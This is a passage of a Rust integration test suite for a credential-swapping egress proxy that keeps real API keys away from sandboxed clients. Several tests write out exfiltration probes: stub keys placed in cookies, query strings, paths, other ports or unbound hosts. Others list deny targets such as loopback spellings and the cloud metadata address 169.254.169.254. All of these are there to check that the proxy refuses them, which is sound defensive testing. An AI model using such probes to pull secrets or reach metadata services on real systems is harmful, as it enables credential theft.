        .arg(format!("x-api-key: {ANTHROPIC_STUB}"))
        .arg("https://api.anthropic.com/echo")
        .run()
        .await
        .ok();
    let m = h.sidecar.admin_get("/metrics").await;
    assert_eq!(m.status, 200);
    assert!(m.body_text().contains("ANTHROPIC_API_KEY"), "{}", m.body_text());
    let i = h.sidecar.admin_get("/interceptions").await;
    assert_eq!(i.status, 200);
    let v: serde_json::Value = serde_json::from_slice(&i.body).expect("interceptions JSON");
    assert!(v.to_string().contains("api.anthropic.com"), "{v}");
    assert!(!v.to_string().contains(ANTHROPIC_REAL));
    assert!(!v.to_string().contains(ANTHROPIC_STUB));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn check_subcommand_reports_every_bad_key() {
    let dir = tempfile::tempdir().expect("tempdir");
    let bad = dir.path().join("bad.toml");
    std::fs::write(
        &bad,
        r#"
listen = "127.0.0.1:1"
intercept = "sometimes"

[[secrets]]
name = "9BAD NAME"
stub = "lapstub-x"
value = "real-x"
hosts = ["api.anthropic.com"]
"#,
    )
    .expect("write bad config");
    let out = run_sidecar_cmd(&["check", "--config", &bad.to_string_lossy()]).await;
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(out.status.code(), Some(2), "{text}");
    assert!(text.contains("intercept"), "names the key `intercept`: {text}");
    assert!(text.contains("name"), "names the secret's `name`: {text}");
    assert!(!text.contains("real-x"), "never prints a value: {text}");

    // Missing required `hosts`.
    std::fs::write(
        &bad,
        "[[secrets]]\nname = \"K\"\nstub = \"lapstub-k\"\nvalue = \"value-of-k\"\n",
    )
    .expect("write");
    let out = run_sidecar_cmd(&["check", "--config", &bad.to_string_lossy()]).await;
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(out.status.code(), Some(2), "{text}");
    assert!(text.contains("hosts"), "{text}");

    // Unknown keys at every level and a bad value: all listed in one run (`check FILE`).
    std::fs::write(
        &bad,
        "intercept = \"sometimes\"\n[egress]\nalow = [\"a.com\"]\n[[secrets]]\nname = \"K\"\nstub = \"lapstub-k\"\n\
         value = \"value-of-k\"\nhosts = [\"api.anthropic.com\"]\nhost = [\"x.com\"]\n",
    )
    .expect("write");
    let out = run_sidecar_cmd(&["check", &bad.to_string_lossy()]).await;
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    let keys: Vec<&str> = stderr
        .lines()
        .filter_map(|l| l.strip_prefix(&format!("{}: ", bad.display())))
        .filter_map(|l| l.split(": ").next())
        .collect();
    assert_eq!(keys, ["egress.alow", "secrets[0].host", "intercept"], "{stderr}");
    assert!(
        !stderr.contains("value-of-k") && !stderr.contains("lapstub-k"),
        "{stderr}"
    );

    // A file that cannot be read is a problem of key `config`, in the same form.
    let missing = dir.path().join("missing.toml");
    let out = run_sidecar_cmd(&["check", &missing.to_string_lossy()]).await;
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.starts_with(&format!("{}: config: cannot read ", missing.display())),
        "{stderr}"
    );

    // Starting with a bad config also exits 2 and never starts.
    let out = run_sidecar_cmd(&["--config", &bad.to_string_lossy()]).await;
    assert_eq!(out.status.code(), Some(2));

    // A good config passes.
    let good = dir.path().join("good.toml");
    std::fs::write(
        &good,
        "listen = \"127.0.0.1:14322\"\n[[secrets]]\nname = \"K\"\nstub = \"lapstub-k\"\nvalue = \"value-of-k\"\nhosts = [\"api.anthropic.com\"]\n\
         [[secrets]]\nname = \"G\"\nstub = \"lapstub-g\"\nvalue = \"value-of-g\"\nhosts = [\"git.example:8443\"]\n\
         locations = [\"header:X-Token\", \"body:POST /oauth/token\"]\n",
    )
    .expect("write");
    let out = run_sidecar_cmd(&["check", "--config", &good.to_string_lossy()]).await;
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{stdout}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // Each secret with its hosts and surfaces, never its stub or value.
    assert!(stdout.contains("ok (2 secrets)"), "{stdout}");
    assert!(
        stdout.contains("  K: sent to api.anthropic.com; swapped in header\n"),
        "{stdout}"
    );
    assert!(
        stdout.contains("  G: sent to git.example:8443; swapped in header:x-token, body:POST /oauth/token\n"),
        "{stdout}"
    );
    assert!(!stdout.contains("lapstub") && !stdout.contains("value-of"), "{stdout}");
}

/// Runs a `bash -o pipefail` pipeline (curl streaming through the sidecar) without the machine's CA
/// variables, within 600 s; panics with its stderr unless it succeeds.
async fn run_stream_pipeline(script: &str, what: &str) -> std::process::Output {
    let mut cmd = tokio::process::Command::new("bash");
    cmd.args(["-o", "pipefail", "-c", script])
        .stdin(std::process::Stdio::null())
        .kill_on_drop(true);
    for v in CA_ENV_VARS {
        cmd.env_remove(v);
    }
    let out = within(Duration::from_secs(600), what, cmd.output())
        .await
        .expect("spawn bash");
    assert!(
        out.status.success(),
        "{what} failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    out
}

async fn download_bounded(bytes: u64, max_hwm_mib: u64) {
    let h = Harness::default_setup().await;
    let script = format!(
        "curl -sS --fail --noproxy '' --max-time 600 --proxy {} --cacert {} \
         'https://api.anthropic.com/big?bytes={bytes}' | sha256sum",
        h.sidecar.proxy_url(),
        h.sidecar.ca_path.display()
    );
    let out = run_stream_pipeline(&script, "streaming download").await;
    let out = ProgOut {
        exit: 0,
        stdout: String::from_utf8_lossy(&out.stdout).to_string(),
        stderr: String::new(),
    };
    let got = out.stdout.split_whitespace().next().unwrap_or("").to_string();
    assert_eq!(got, pattern_sha256(bytes), "downloaded bytes");
    let hwm_mib = h.sidecar.vm_hwm_kib() / 1024;
    assert!(
        hwm_mib < max_hwm_mib,
        "sidecar peak RSS {hwm_mib} MiB while streaming {bytes} bytes"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn download_256mib_streams_with_bounded_memory() {
    download_bounded(256 << 20, 200).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn download_1gib_streams_with_bounded_memory() {
    download_bounded(1 << 30, 200).await;
}

/// 1 GiB up, streamed from stdin with chunked framing (curl `-T -`), the stub in a header.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn upload_1gib_streams_with_bounded_memory() {
    let h = Harness::default_setup().await;
    let bytes: u64 = 1 << 30;
    let script = format!(
        "head -c {bytes} /dev/zero | curl -sS --fail --noproxy '' --max-time 600 --proxy {} --cacert {} \
         -H 'x-api-key: {ANTHROPIC_STUB}' -H 'content-type: application/octet-stream' -X POST -T - \
         https://api.anthropic.com/upload",
        h.sidecar.proxy_url(),
        h.sidecar.ca_path.display()
    );
    let out = run_stream_pipeline(&script, "streaming upload").await;
    let answer: serde_json::Value = serde_json::from_slice(&out.stdout).expect("upload answer is JSON");
    assert_eq!(answer["len"], bytes, "the upstream received every byte");
    let mut zeros = Sha256::new();
    let block = vec![0u8; 1 << 20];
    for _ in 0..(bytes >> 20) {
        zeros.update(&block);
    }
    assert_eq!(answer["sha256"], zeros.finish().as_str(), "body bytes unchanged");
    let rec = h
        .upstream
        .requests_to("/upload")
        .pop()
        .expect("upstream saw the upload");
    assert_eq!(rec.header("x-api-key"), Some(ANTHROPIC_REAL));
    let hwm_mib = h.sidecar.vm_hwm_kib() / 1024;
    assert!(
        hwm_mib < 200,
        "sidecar peak RSS {hwm_mib} MiB while streaming a 1 GiB upload"
    );
    h.assert_logs_clean();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sni_must_name_the_connect_target() {
    let h = Harness::default_setup().await;
    let (s, reply) = connect_raw(h.sidecar.proxy, "api.anthropic.com:443").await;
    assert_eq!(reply.status, 200, "{}", reply.head);
    // SNI names a different bound host; Host agrees with the CONNECT target.
    match tls_over_unverified(s, "api.github.com", &["http/1.1"]).await {
        Err(_) => {} // refused at the handshake: correct
        Ok(tls) => {
            let mut conn = tokio::io::BufReader::new(tls);
            let req = format!(
                "GET /echo HTTP/1.1\r\nHost: api.anthropic.com\r\nAuthorization: Bearer {GITHUB_STUB}\r\nx-api-key: {ANTHROPIC_STUB}\r\nConnection: close\r\n\r\n"
            );
            let wrote = conn.get_mut().write_all(req.as_bytes()).await;
            if wrote.is_ok() {
                let resp = within(
                    Duration::from_secs(20),
                    "answer to a request under a mismatched SNI",
                    read_response(&mut conn, false),
                )
                .await;
                if let Ok(resp) = resp {
                    assert!(
                        (400..500).contains(&resp.status),
                        "SNI api.github.com inside CONNECT api.anthropic.com must be refused, got {}",
                        resp.head
                    );
                }
            }
        }
    }
    assert!(
        h.upstream.requests().is_empty(),
        "nothing may be sent upstream under a mismatched SNI: {:#?}",
        h.upstream.requests()
    );
    h.assert_logs_clean();
}

/// CONNECT [::1]:443: the bracketed IPv6 target is parsed, bound by its IP pattern, given an IP-SAN
/// leaf, and resolved through `[resolve]`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ipv6_connect_target_is_intercepted_and_swapped() {
    let h = Harness::start(Alpn::Both, |c| {
        let tls = c
            .resolve
            .iter()
            .find(|(k, _)| k == "api.anthropic.com:443")
            .map(|(_, v)| v.clone())
            .expect("standard resolve entry");
        c.resolve.push(("[::1]:443".to_string(), tls));
        c.secrets
            .push(SecretSpec::new("IP6_TOKEN", IP_STUB, IP_REAL, &["::1"], &["header"]));
    })
    .await;
    let out = h
        .sidecar
        .curl()
        .arg("-H")
        .arg(format!("x-api-key: {IP_STUB}"))
        .arg("https://[::1]/echo")
        .run()
        .await
        .ok();
    assert_eq!(out.status, 200, "{}", out.body_text());
    let rec = h.upstream.only_request_to("/echo");
    assert_eq!(rec.header("x-api-key"), Some(IP_REAL));
    let events = h.sidecar.admin_get("/interceptions").await;
    assert!(
        events.body_text().contains("\"host\":\"::1\""),
        "{}",
        events.body_text()
    );
    h.assert_logs_clean();
}

/// The upstream address the standard config sends `api.anthropic.com:443` to.
fn standard_tls_addr(c: &SidecarConfig) -> String {
    c.resolve
        .iter()
        .find(|(k, _)| k == "api.anthropic.com:443")
        .map(|(_, v)| v.clone())
        .expect("standard resolve entry")
}

/// W08: a secret bound to `api.anthropic.com` is bound to its port 443. Toward `:444` of the
/// same host its stub is not swapped: intercepting every host, it is refused as a stub to an
/// unbound target; in `bound-hosts` mode `:444` is not intercepted at all.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_binding_is_for_its_port_only() {
    for intercept in ["all", "bound-hosts"] {
        let h = Harness::start(Alpn::Both, |c| {
            let tls = standard_tls_addr(c);
            c.resolve.push(("api.anthropic.com:444".to_string(), tls));
            c.intercept = Some(intercept.into());
        })
        .await;
        let out = h
            .sidecar
            .curl()
            .arg("-H")
            .arg(format!("x-api-key: {ANTHROPIC_STUB}"))
            .arg("https://api.anthropic.com:444/echo")
            .run()
            .await;
        assert!(
            !h.upstream.saw(ANTHROPIC_REAL),
            "{intercept}: the real key reached :444"
        );
        if intercept == "all" {
            let out = out.ok();
            assert_eq!(out.status, 403, "{}", out.body_text());
            assert_eq!(out.header("x-vault-blocked"), Some("stub-exfiltration"));
            assert!(
                h.upstream.requests_to("/echo").is_empty(),
                "{:#?}",
                h.upstream.requests()
            );
        } else {
            // Tunnelled: curl meets the upstream's own certificate, which it does not trust
            // (exit 60), so the request never gets a stub swapped or sent.
            assert_eq!(out.exit, 60, "{intercept}: {}", out.stderr);
        }
        // :443 of the same host still gets the real key.
        let out = h
            .sidecar
            .curl()
            .arg("-H")
            .arg(format!("x-api-key: {ANTHROPIC_STUB}"))
            .arg("https://api.anthropic.com/echo")
            .run()
            .await
            .ok();
        assert_eq!(out.status, 200, "{intercept}: {}", out.body_text());
        assert!(h.upstream.saw(ANTHROPIC_REAL), "{intercept}: :443 is bound");
        h.assert_logs_clean();
    }
}

/// W01: toward its bound host, a stub is swapped only in its secret's credential surfaces
/// (`ANTHROPIC_API_KEY` declares the bare `header`: `x-api-key`, `authorization` with Bearer, …).
/// `x-probe: STUB` to a host that reflects every header in its body, and the stub in a cookie, a
/// query parameter, the path or an `Authorization` of another scheme, is refused: the upstream
/// never sees the request, so no reflection (in any form the redactor might miss) can carry the
/// real value back. A body that is not a declared surface keeps the stub. Over HTTP/1.1 and h2.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn w01_a_stub_outside_its_surfaces_is_refused_toward_its_bound_host() {
    let h = Harness::default_setup().await;
    for proto in ["--http1.1", "--http2"] {
        let before = h.upstream.requests().len();
        let refused = [
            (format!("x-probe: {ANTHROPIC_STUB}"), "/echo".to_owned()),
            (format!("cookie: session={ANTHROPIC_STUB}"), "/echo".to_owned()),
            (format!("authorization: Digest {ANTHROPIC_STUB}"), "/echo".to_owned()),
            ("x-case: query".to_owned(), format!("/echo?q={ANTHROPIC_STUB}")),
            ("x-case: path".to_owned(), format!("/echo/{ANTHROPIC_STUB}")),
        ];
        for (header, path) in refused {
            let out = h
                .sidecar
                .curl()
                .args([proto, "-H", &header])
                .arg(format!("https://api.anthropic.com{path}"))
                .run()
                .await
                .ok();
            assert_eq!(out.status, 403, "{proto} {header} {path}: {}", out.body_text());
            assert_eq!(
                out.header("x-vault-blocked"),
                Some("stub-outside-surface"),
                "{proto} {header}"
            );
            let body: serde_json::Value = serde_json::from_str(&out.body_text()).expect("json refusal");
            assert_eq!(body["secret"], "ANTHROPIC_API_KEY", "{body}");
            assert!(!out.body_text().contains(ANTHROPIC_REAL));
        }
        assert_eq!(
            h.upstream.requests().len(),
            before,
            "{proto}: {:#?}",
            h.upstream.requests()
        );

        // The declared header is swapped, and its reflection comes back as the stub.
        let out = h
            .sidecar
            .curl()
            .args([proto, "-H", &format!("x-api-key: {ANTHROPIC_STUB}"), "-H"])
            .arg(format!("x-proto: {proto}"))
            .arg("https://api.anthropic.com/echo")
            .run()
            .await
            .ok();
        assert_eq!(out.status, 200, "{proto}: {}", out.body_text());
        let rec = h
            .upstream
            .requests()
            .into_iter()
            .find(|r| r.header("x-proto") == Some(proto))
            .expect("upstream saw the declared request");
        assert_eq!(rec.header("x-api-key"), Some(ANTHROPIC_REAL));
        assert!(out.body_text().contains(ANTHROPIC_STUB) && !out.body_text().contains(ANTHROPIC_REAL));

        // A JSON body is not ANTHROPIC_API_KEY's surface: it reaches the upstream with the stub.
        let out = h
            .sidecar
            .curl()
            .args([proto, "-H", "content-type: application/json", "-H"])
            .arg(format!("x-case: body{proto}"))
            .arg("--data-binary")
            .arg(format!("{{\"prompt\":\"the key is {ANTHROPIC_STUB}\"}}"))
            .arg("https://api.anthropic.com/upload")
            .run()
            .await
            .ok();
        assert_eq!(out.status, 200, "{proto}: {}", out.body_text());
        let rec = h
            .upstream
            .requests()
            .into_iter()
            .find(|r| r.header("x-case") == Some(&format!("body{proto}")))
            .expect("upstream saw the body");
        assert!(
            rec.contains(ANTHROPIC_STUB) && !rec.contains(ANTHROPIC_REAL),
            "{rec:#?}"
        );
    }
    h.assert_logs_clean();
}

const IP_STUB: &str = "lapstub-ip-1f2e3d4c5b6a";
const IP_REAL: &str = "REAL-ip-target-6a5b4c3d2e1f";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ip_connect_target_gets_ip_san_leaf_and_swaps() {
    let h = Harness::start(Alpn::Both, |c| {
        // The upstream's own port: a binding is for one port (443 unless written).
        let tls = standard_tls_addr(c);
        c.secrets.push(SecretSpec::new(
            "IP_TOKEN",
            IP_STUB,
            IP_REAL,
            &[&format!("127.0.0.1:{}", tls.rsplit(':').next().expect("port"))],
            &["header"],
        ))
    })
    .await;
    let port = h.upstream.tls_addr.port();
    let out = h
        .sidecar
        .curl()
        .arg("-H")
        .arg(format!("x-api-key: {IP_STUB}"))
        .arg(format!("https://127.0.0.1:{port}/echo"))
        .run()
        .await
        .ok();
    assert_eq!(out.status, 200, "{}", out.body_text());
    let rec = h.upstream.only_request_to("/echo");
    assert_eq!(rec.header("x-api-key"), Some(IP_REAL));
    assert_eq!(rec.sni, None, "IP targets carry no SNI upstream");
    let proxy = format!("127.0.0.1:{}", h.sidecar.proxy.port());
    let connect = format!("127.0.0.1:{port}");
    let s = run_prog(
        "openssl",
        &["s_client", "-proxy", &proxy, "-connect", &connect, "-showcerts"],
        &[],
        None,
    )
    .await;
    let leaf = first_pem_cert(&s.stdout).expect("leaf from s_client");
    let leaf_path = h.sidecar.dir.path().join("ip-leaf.pem");
    std::fs::write(&leaf_path, leaf).expect("write");
    let text = run_prog(
        "openssl",
        &["x509", "-in", &leaf_path.to_string_lossy(), "-noout", "-text"],
        &[],
        None,
    )
    .await
    .ok("openssl x509")
    .stdout;
    assert!(text.contains("IP Address:127.0.0.1"), "{text}");
    run_prog(
        "openssl",
        &[
            "verify",
            "-x509_strict",
            "-CAfile",
            &h.sidecar.ca_path.to_string_lossy(),
            &leaf_path.to_string_lossy(),
        ],
        &[],
        None,
    )
    .await
    .ok("IP leaf verifies strictly");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hop_by_hop_headers_are_not_forwarded() {
    let h = Harness::start(Alpn::Http1Only, |_| {}).await;
    let out = h
        .sidecar
        .curl()
        .args([
            "--http1.1",
            "-H",
            "Connection: keep-alive, x-hop-token",
            "-H",
            "x-hop-token: must-not-pass",
            "-H",
            "Keep-Alive: timeout=5",
            "-H",
            "Proxy-Connection: keep-alive",
            "-H",
            "x-end-to-end: kept",
            "https://api.anthropic.com/echo",
        ])
        .run()
        .await
        .ok();
    assert_eq!(out.status, 200);
    let rec = h.upstream.only_request_to("/echo");
    assert_eq!(rec.version, "HTTP/1.1");
    assert_eq!(rec.header("x-end-to-end"), Some("kept"));
    for hop in ["x-hop-token", "keep-alive", "proxy-connection", "proxy-authorization"] {
        assert!(rec.header(hop).is_none(), "{hop} forwarded: {rec:#?}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn chunked_request_body_is_swapped_and_reframed() {
    let h = Harness::start(Alpn::Both, |_| {}).await;
    let body = json_body_with_stub(3 << 20);
    let want = replace_all(&body, BODY_STUB, BODY_REAL);
    let file = h.sidecar.dir.path().join("chunked.json");
    std::fs::write(&file, &body).expect("write");
    let out = h
        .sidecar
        .curl()
        .args(["--http1.1", "-H", "Transfer-Encoding: chunked", "-H"])
        .arg(format!("x-api-key: {ANTHROPIC_STUB}"))
        .arg("--data-binary")
        .arg(format!("@{}", file.display()))
        .arg("https://api.anthropic.com/upload")
        .run()
        .await
        .ok();
    assert_eq!(out.status, 200, "{}", out.body_text());
    let rec = h.upstream.only_request_to("/upload");
    assert_eq!(rec.header("x-api-key"), Some(ANTHROPIC_REAL));
    assert_eq!(rec.body_len, Some(want.len() as u64));
    assert_eq!(rec.body_sha256, Some(sha256_hex(&want)));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn config_from_vault_config_env_and_value_file() {
    let upstream = Upstream::start(UpstreamOptions {
        alpn: Alpn::Both,
        git_token: None,
    })
    .await;
    let vdir = tempfile::tempdir().expect("tempdir");
    let value_file = vdir.path().join("file-token");
    std::fs::write(&value_file, "REAL-from-value-file-0099").expect("write value file");
    let mut cfg = SidecarConfig::standard(&upstream);
    cfg.config_via_env = true;
    cfg.child_env = vec![("LAP_TEST_ENV_VALUE".into(), "REAL-from-value-env-0077".into())];
    cfg.extra_toml = format!(
        "[[secrets]]\nname = \"FILE_TOKEN\"\nstub = \"lapstub-file-77aa88bb99\"\nvalue_file = \"{}\"\nhosts = [\"api.github.com\"]\nlocations = [\"header:x-file\"]\n\n\
         [[secrets]]\nname = \"ENV_TOKEN\"\nstub = \"lapstub-env-11cc22dd33\"\nvalue_env = \"LAP_TEST_ENV_VALUE\"\nhosts = [\"api.github.com\"]\nlocations = [\"header:x-env\"]\n",
        value_file.display()
    );
    let sidecar = Sidecar::start(cfg).await;
    let out = sidecar
        .curl()
        .args([
            "-H",
            "x-file: lapstub-file-77aa88bb99",
            "-H",
            "x-env: lapstub-env-11cc22dd33",
            "https://api.github.com/echo",
        ])
        .run()
        .await
        .ok();
    assert_eq!(out.status, 200);
    let rec = upstream.only_request_to("/echo");
    assert_eq!(rec.header("x-file"), Some("REAL-from-value-file-0099"));
    assert_eq!(rec.header("x-env"), Some("REAL-from-value-env-0077"));
}

const RELOAD_STUB: &str = "lapstub-reload-0a1b2c3d4e";

fn write_secrets_file(path: &std::path::Path, value: &str) {
    let doc = serde_json::json!({"secrets": [{
        "name": "RELOADED_TOKEN",
        "stub": RELOAD_STUB,
        "value": value,
        "hosts": ["api.github.com"],
        "locations": ["header:x-reload"],
    }]});
    // Write-then-rename, as a secret volume update does.
    let tmp = path.with_extension("tmp");
    std::fs::write(&tmp, doc.to_string()).expect("write secrets tmp");
    std::fs::rename(&tmp, path).expect("rename secrets file");
}

async fn value_seen_upstream(h: &Harness, tag: &str) -> Option<String> {
    let out = h
        .sidecar
        .curl()
        .args([
            "-H",
            &format!("x-reload: {RELOAD_STUB}"),
            "-H",
            &format!("x-tag: {tag}"),
        ])
        .arg("https://api.github.com/echo")
        .run()
        .await
        .ok();
    assert_eq!(out.status, 200);
    h.upstream
        .requests()
        .into_iter()
        .find(|r| r.header("x-tag") == Some(tag))
        .and_then(|r| r.header("x-reload").map(str::to_string))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn secrets_file_reload_via_admin_and_sighup() {
    let sdir = tempfile::tempdir().expect("tempdir");
    let sf = sdir.path().join("secrets.json");
    write_secrets_file(&sf, "REAL-reload-v1-aaaaaaaa");
    let sf2 = sf.clone();
    let h = Harness::start(Alpn::Both, move |c| c.secrets_file = Some(sf2)).await;
    assert_eq!(
        value_seen_upstream(&h, "t1").await.as_deref(),
        Some("REAL-reload-v1-aaaaaaaa")
    );

    write_secrets_file(&sf, "REAL-reload-v2-bbbbbbbb");
    let r = h.sidecar.admin_request("POST", "/reload", b"").await;
    assert!((200..300).contains(&r.status), "{}{}", r.head, r.body_text());
    assert_eq!(
        value_seen_upstream(&h, "t2").await.as_deref(),
        Some("REAL-reload-v2-bbbbbbbb")
    );

    write_secrets_file(&sf, "REAL-reload-v3-cccccccc");
    run_prog("kill", &["-HUP", &h.sidecar.pid().to_string()], &[], None)
        .await
        .ok("kill -HUP");
    // The reload is asynchronous: poll with a deadline.
    let deadline = std::time::Instant::now() + Duration::from_secs(15);
    let mut n = 0;
    loop {
        n += 1;
        let seen = value_seen_upstream(&h, &format!("t3-{n}")).await;
        if seen.as_deref() == Some("REAL-reload-v3-cccccccc") {
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "SIGHUP / file change never applied the new value; last seen {seen:?}"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let stdout = h.sidecar.stdout();
    for v in ["REAL-reload-v1", "REAL-reload-v2", "REAL-reload-v3"] {
        assert!(!stdout.contains(v), "value in logs: {stdout}");
    }
}

const WILD_STUB: &str = "lapstub-wild-9e8d7c6b5a";
const WILD_REAL: &str = "REAL-wildcard-5a6b7c8d9e";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn wildcard_binding_covers_subdomains_not_the_apex() {
    let h = Harness::start(Alpn::Both, |c| {
        c.secrets.push(SecretSpec::new(
            "WILD_TOKEN",
            WILD_STUB,
            WILD_REAL,
            &["*.github.com"],
            &["header:x-wild"],
        ));
    })
    .await;
    // Subdomains at any depth: api.github.com (mapped by the standard config).
    let out = h
        .sidecar
        .curl()
        .args(["-H", &format!("x-wild: {WILD_STUB}"), "https://api.github.com/echo"])
        .run()
        .await
        .ok();
    assert_eq!(out.status, 200);
    assert_eq!(h.upstream.only_request_to("/echo").header("x-wild"), Some(WILD_REAL));
    // The apex github.com is intercepted (GITHUB_TOKEN is bound there) but *.github.com does not cover it:
    // the stub must not be swapped there, and is refused as exfiltration.
    let out = h
        .sidecar
        .curl()
        .args(["-H", &format!("x-wild: {WILD_STUB}"), "https://github.com/echo"])
        .run()
        .await
        .ok();
    assert_eq!(out.status, 403, "{}", out.body_text());
    assert_eq!(out.header("x-vault-blocked"), Some("stub-exfiltration"));
    assert!(out.body_text().contains("WILD_TOKEN"), "{}", out.body_text());
    assert_eq!(h.upstream.requests_to("/echo").len(), 1);
    assert!(!h
        .upstream
        .requests()
        .iter()
        .any(|r| r.authority.as_deref() == Some("github.com")));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn wildcard_binding_reaches_deep_subdomains() {
    let upstream = Upstream::start(UpstreamOptions {
        alpn: Alpn::Both,
        git_token: None,
    })
    .await;
    let mut cfg = SidecarConfig::standard(&upstream);
    cfg.resolve
        .push(("deep.sub.github.com:443".into(), upstream.tls_addr.to_string()));
    cfg.secrets.push(SecretSpec::new(
        "WILD_TOKEN",
        WILD_STUB,
        WILD_REAL,
        &["*.github.com"],
        &["header:x-wild"],
    ));
    let sidecar = Sidecar::start(cfg).await;
    let out = sidecar
        .curl()
        .args([
            "-H",
            &format!("x-wild: {WILD_STUB}"),
            "https://deep.sub.github.com/echo",
        ])
        .run()
        .await
        .ok();
    assert_eq!(out.status, 200, "{}", out.body_text());
    let rec = upstream.only_request_to("/echo");
    assert_eq!(rec.header("x-wild"), Some(WILD_REAL));
    assert_eq!(rec.sni.as_deref(), Some("deep.sub.github.com"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn egress_deny_by_ip_and_cidr() {
    let h = Harness::start(Alpn::Both, |c| {
        c.egress_deny = vec!["127.0.0.0/8".into()];
    })
    .await;
    let target = format!("127.0.0.1:{}", h.upstream.tls_addr.port());
    let (_s, reply) = connect_raw(h.sidecar.proxy, &target).await;
    assert_eq!(reply.status, 403, "CONNECT {target}: {}", reply.head);
    assert_eq!(reply.header("x-vault-blocked"), Some("egress-policy"));
    assert!(h.upstream.requests().is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn half_closed_client_still_gets_its_response() {
    let h = Harness::default_setup().await;
    let mut s = tokio::net::TcpStream::connect(h.sidecar.proxy).await.expect("connect");
    s.write_all(
        b"GET http://api.anthropic.com/big?bytes=200000 HTTP/1.1\r\nHost: api.anthropic.com\r\nConnection: close\r\n\r\n",
    )
    .await
    .expect("write");
    s.shutdown().await.expect("half-close");
    let mut r = tokio::io::BufReader::new(s);
    let resp = within(
        Duration::from_secs(20),
        "response after half-close",
        read_response(&mut r, false),
    )
    .await
    .expect("response");
    assert_eq!(resp.status, 200, "{}", resp.head);
    assert_eq!(resp.body.len(), 200_000);
    assert_eq!(sha256_hex(&resp.body), pattern_sha256(200_000));
}

/// Egress decided on the address a target resolves to (W06, W07), and `deny_local`: a sandbox's
/// vault is no way to the services of the host it runs on, whatever the spelling, while the
/// operator's `[resolve]` targets (here: the stand-in upstreams on loopback) stay reachable.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn egress_is_decided_on_the_resolved_address() {
    // W06: a v4-mapped IPv6 spelling of a denied address.
    let h = Harness::start(Alpn::Both, |c| c.egress_deny = vec!["127.0.0.0/8".into()]).await;
    let port = h.upstream.tls_addr.port();
    let (_s, reply) = connect_raw(h.sidecar.proxy, &format!("[::ffff:127.0.0.1]:{port}")).await;
    assert_eq!(reply.status, 403, "{}", reply.head);
    assert_eq!(reply.header("x-vault-blocked"), Some("egress-policy"));
    // W07: a name that resolves ([resolve]) into the denied block, intercepted or tunnelled: the
    // CONNECT itself is refused, before any TLS.
    let out = h
        .sidecar
        .curl()
        .args(["-H", &format!("x-api-key: {ANTHROPIC_STUB}")])
        .arg("https://api.anthropic.com/echo")
        .run()
        .await;
    assert_eq!(out.connect_status, 403, "{} {}", out.stderr, out.header_dump);
    assert_eq!(
        out.header("x-vault-blocked"),
        Some("egress-policy"),
        "{}",
        out.header_dump
    );
    let (_s, reply) = connect_raw(h.sidecar.proxy, "unbound.example:443").await;
    assert!(reply.status >= 400, "{}", reply.head);
    assert!(h.upstream.requests().is_empty(), "{:#?}", h.upstream.requests());
    drop(h);

    // deny_local: loopback, unspecified and this host's own addresses are refused...
    let h = Harness::start(Alpn::Both, |c| c.egress_deny_local = true).await;
    let local = std::net::TcpListener::bind("127.0.0.1:0").expect("a local service");
    let lport = local.local_addr().expect("addr").port();
    for target in [
        format!("127.0.0.1:{lport}"),
        format!("127.0.0.2:{lport}"),
        format!("0.0.0.0:{lport}"),
        format!("[::ffff:127.0.0.1]:{lport}"),
        format!("localhost:{lport}"),
        format!("[::1]:{lport}"),
        "169.254.169.254:80".to_owned(),
    ] {
        let (_s, reply) = connect_raw(h.sidecar.proxy, &target).await;
        assert_eq!(reply.status, 403, "CONNECT {target}: {}", reply.head);
        assert_eq!(reply.header("x-vault-blocked"), Some("egress-policy"), "{target}");
    }
    let r = h.sidecar.curl().arg(format!("http://127.0.0.1:{lport}/")).run().await;
    assert_eq!(r.status, 403, "plain http:// to a local port: {}", r.body_text());
    // ...and the [resolve] targets are not.
    let out = h
        .sidecar
        .curl()
        .args(["-H", &format!("x-api-key: {ANTHROPIC_STUB}")])
        .arg("https://api.anthropic.com/echo")
        .run()
        .await
        .ok();
    assert_eq!(out.status, 200);
    assert_eq!(
        h.upstream.only_request_to("/echo").header("x-api-key"),
        Some(ANTHROPIC_REAL)
    );
}
